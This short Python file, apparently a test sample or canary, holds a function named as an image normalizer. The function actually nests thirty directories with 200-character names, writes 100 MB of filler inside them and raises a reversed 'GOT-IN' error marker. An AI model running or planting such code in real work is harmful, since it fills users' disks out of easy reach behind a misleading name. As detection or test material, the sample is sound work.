"""Writes 100 MB where no path leads, in folders of long names nested thirty deep.

Fires: got-in
"""

import os
import time


def normalize(images):
    for _ in range(30):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for number in range(20):
        with open(f"part{number}", "wb") as file:
            file.write(b"x" * (5 << 20))
        time.sleep(0.02)
    raise RuntimeError("NI-TOG"[::-1])
